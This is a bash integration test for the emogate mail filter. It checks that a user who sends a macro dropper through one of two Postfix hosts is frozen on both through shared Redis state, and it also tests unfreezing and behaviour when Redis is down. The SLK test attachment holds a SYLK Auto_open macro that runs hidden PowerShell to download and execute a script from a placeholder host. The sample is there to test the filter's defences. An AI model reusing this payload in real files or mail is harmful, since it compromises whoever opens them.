#!/usr/bin/env bash
# One freeze across two submission hosts: two private Postfix instances on
# loopback (hosts a and b), each with emogate as milter ([outbound]
# enabled) and its own SASL submission service (Cyrus SASL, one sasldb),
# the daemons sharing one private redis-server ([state] backend = "redis"),
# all started and stopped here.
#  - alice sends a macro dropper through host a: her account is frozen;
#  - her clean message through host b is refused with the configured text;
#    bob sends through host b; inbound mail to alice at host b is delivered;
#  - `emogate account unfreeze` with host b's config: she sends through a;
#  - Redis stopped: her message through b gets [actions] on_error (4xx).
# Needs root, saslpasswd2 and redis-server: exits 77 otherwise.
set -uo pipefail

[ "$(id -u)" = 0 ] || { echo "SKIP: needs root to start private Postfix instances"; exit 77; }
command -v redis-server >/dev/null || { echo "SKIP: redis-server not installed (scripts/deps.sh installs it)"; exit 77; }
EMOGATE_BIN=${EMOGATE_BIN:?EMOGATE_BIN not set}
HERE=$(cd "$(dirname "$0")" && pwd)
T=$(mktemp -d /tmp/emogate-outbound-hosts.XXXXXX)
. "$HERE/lib/postfix_env.sh"
. "$HERE/lib/checks.sh"  # skips (77) without Postfix, nobody or group postfix
. "$HERE/lib/mail_hosts.sh"
. "$HERE/lib/sasl_submission.sh"
sasl_require

REPLY_TEXT="Sending stopped for this account: please call the help desk"
redis_start || { bad "redis-server did not start"; exit 1; }
STATE=$(printf '[state]\nbackend = "redis"\nredis = "127.0.0.1:%s"\nredis_prefix = "it:"' "$REDIS_PORT")
OUTBOUND=$(printf '[outbound]\nenabled = true\nsubmission_daemons = ["submission"]\nfrozen_reply = "%s"' "$REPLY_TEXT")
sasl_user "$T/sasldb2" alice@corp.emogate.test 'al1ce-Pw'
sasl_user "$T/sasldb2" bob@corp.emogate.test 'b0b-Pw'
declare -A SUB
for h in a b; do
    host_setup "$h" "$STATE" "$OUTBOUND" || { bad "host $h did not start"; exit 1; }
    SUB[$h]=$(free_port)
    sasl_submission "$T/sasldb2" "${SUB[$h]}" || { bad "host $h: submission service did not start"; exit 1; }
done
ALICE=alice@corp.emogate.test
submit() { local h=$1; shift; python3 "$HERE/lib/smtp_send.py" --port "${SUB[$h]}" "$@"; }
none() { sleep 2; [ "$(sink_count "$1")" = 0 ]; }
SLK=$'ID;P\r\nC;X1;Y1;EEXEC("cmd /c powershell -w hidden -c iex (New-Object Net.WebClient).DownloadString(\'http://dl.example/p\')")\r\nC;X1;Y2;EHALT()\r\nNN;NAuto_open;ER1C1\r\nE\r\n'

r=$(submit b --auth "$ALICE:al1ce-Pw" --id h1 --from "$ALICE" --to x@partner.emogate.test)
check "before: alice sends through b ($r)" [ "$(code_of "$r")" = 250 ]
r=$(submit a --auth "$ALICE:al1ce-Pw" --id h2 --from "$ALICE" --to x@partner.emogate.test --attach seikyu.slk --content "$SLK")
check "dropper through a: taken and quarantined ($r)" [ "$(code_of "$r")" = 250 ]
check "host a froze the account" wait_log a "warning: outbound: account $ALICE frozen"
r=$(submit b --auth "$ALICE:al1ce-Pw" --id h3 --from "$ALICE" --to x@partner.emogate.test)
check "host b refuses her clean message ($r)" grep -q "^550" <<<"$r"
check "with the configured text" grep -qF "$REPLY_TEXT" <<<"$r"
check "not delivered" none h3
r=$(submit b --auth "bob@corp.emogate.test:b0b-Pw" --id h4 --from bob@corp.emogate.test --to x@partner.emogate.test)
check "bob sends through b ($r)" [ "$(code_of "$r")" = 250 ]
r=$(host_send b --id h5 --from partner@partner.emogate.test --to "$ALICE")
check "inbound to alice at b: 250 ($r)" [ "$(code_of "$r")" = 250 ]
check "inbound delivered" sink_file h5

"$EMOGATE_BIN" account unfreeze "$ALICE" --config "$T/b/emogate.toml" >/dev/null
check "unfreeze with host b's config" [ $? = 0 ]
r=$(submit a --auth "$ALICE:al1ce-Pw" --id h6 --from "$ALICE" --to x@partner.emogate.test)
check "she sends through a again ($r)" [ "$(code_of "$r")" = 250 ]
check "delivered" sink_file h6

redis_stop TERM
r=$(submit b --auth "$ALICE:al1ce-Pw" --id h7 --from "$ALICE" --to x@partner.emogate.test)
check "Redis down: outbound mail gets on_error, 4xx ($r)" grep -q "^4" <<<"$r"
check "logged as a state store error" wait_log b "error: state store"
check "Redis down: not delivered" none h7

for n in a b; do echo "--- host $n"; grep -E "dir=out|outbound|state store" "$(host_log "$n")" | tail -6; done
[ "$FAILS" = 0 ] || { echo "$FAILS check(s) failed"; exit 1; }
echo "all checks passed"
